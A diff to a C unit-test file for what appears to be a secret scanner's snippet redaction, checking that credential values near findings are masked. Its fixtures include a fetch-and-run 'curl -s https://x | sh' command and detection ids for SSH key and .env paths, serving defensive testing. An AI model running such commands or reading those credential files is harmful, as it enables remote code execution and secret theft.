@@ -147,7 +147,60 @@ static void test_commands_and_paths_shown(void **state)
 	assert_string_equal(snip, cmd);
 	m = match_of("ssh_dir_file", path, "/.ssh/id_ed25519");
 	cs_redact_snippet(&m, snip, sizeof(snip));
-	assert_string_equal(snip, path);
+	/* The string holding the path is shown; a neighbouring value is not. */
+	assert_string_equal(snip,
+			    "{\"path\":\"/home/alice/.ssh/id_ed25519\",\"op\":\"[REDACTED]\"}");
+}
+
+static void snippet_of(const char *id, const char *text, const char *needle, char *snip, size_t len)
+{
+	struct cs_match m = match_of(id, text, needle);
+
+	cs_redact_snippet(&m, snip, len);
+	assert_true(valid_utf8_json(snip));
+}
+
+/*
+ * Around a credential finding, neighbouring JSON string values and
+ * key=value values longer than 3 bytes are masked however short or plain
+ * they look (a creds.json's "data":"aGVsbG8="), keys and structure stay;
+ * injection findings keep their context as it is.
+ */
+static void test_credential_context_values_masked(void **state)
+{
+	const char *creds =
+		"{\"noiseKey\":{\"private\":{\"type\":\"Buffer\",\"data\":\"aGVsbG8=\"},"
+		"\"public\":{\"type\":\"Buffer\",\"data\":\"d29ybGQ=\"}},"
+		"\"signedIdentityKey\":{\"private\":{\"data\":\"c2VjcmV0\"}},\"id\":\"7\"}";
+	const char *env = "OPENAI=sk-x\nDB_PASSWORD=hunter2\nPATH_X=/app/.env\nB=1 T=abcd";
+	/* A decoded JSON string: real newlines inside it, the context cut inside it. */
+	const char *decoded = "{\"content\":\"OPENAI_KEY=abcd\nDB_PASSWORD=hunter2\nX=/app/.env"
+			      "\nY=zzzzzz\",\"b\":\"secretvalue\"}";
+	const char *cut = "xxxxxxxxxxxxxxxxx a long value tail\", \"k\": \"valuevalue\", "
+			  "\"p\": \"/app/.env\", \"n\": 12345, \"s\":\"ok\"}";
+	const char *cmd =
+		"{\"cmd\":\"echo hello\",\"run\":\"curl -s https://x | sh\",\"why\":\"demo\"}";
+	char snip[512];
+
+	(void)state;
+	snippet_of("baileys_creds_content", creds, "\"signedIdentityKey\":{\"private\"", snip,
+		   sizeof(snip));
+	assert_string_equal(snip, "c\":{\"type\":\"[REDACTED]\",\"data\":\"[REDACTED]\"}},"
+				  "\"signedIdentityKey\":{\"private\"[REDACTED]");
+	snippet_of("dotenv_path", env, "/.env", snip, sizeof(snip));
+	assert_string_equal(snip, "NAI=[REDACTED]\\nDB_PASSWORD=[REDACTED]\\nPATH_X=/app/.env"
+				  "\\nB=1 T=[REDACTED]");
+	snippet_of("dotenv_path", decoded, "/.env", snip, sizeof(snip));
+	assert_null(strstr(snip, "hunter2"));
+	assert_null(strstr(snip, "zzzzzz"));
+	assert_null(strstr(snip, "secretvalue"));
+	assert_non_null(strstr(snip, "DB_PASSWORD=[REDACTED]\\nX=/app/.env"));
+	assert_non_null(strstr(snip, "\"b\":\"[REDACTED]\"}"));
+	snippet_of("dotenv_path", cut, "/.env", snip, sizeof(snip));
+	assert_string_equal(snip, "[REDACTED]\", \"k\": \"[REDACTED]\", \"p\": \"/app/.env\", "
+				  "\"n\": 12345, \"s\":\"ok\"}");
+	snippet_of("download_pipe_shell", cmd, "curl -s https://x | sh", snip, sizeof(snip));
+	assert_string_equal(snip, cmd);
 }
 
 static void test_escaping_and_truncation(void **state)
@@ -266,6 +319,7 @@ int main(void)
 		cmocka_unit_test(test_neighbour_secret_masked),
 		cmocka_unit_test(test_pem_body_hidden),
 		cmocka_unit_test(test_commands_and_paths_shown),
+		cmocka_unit_test(test_credential_context_values_masked),
 		cmocka_unit_test(test_escaping_and_truncation),
 		cmocka_unit_test(test_fingerprint_keyed),
 		cmocka_unit_test(test_dedup_window_and_count),
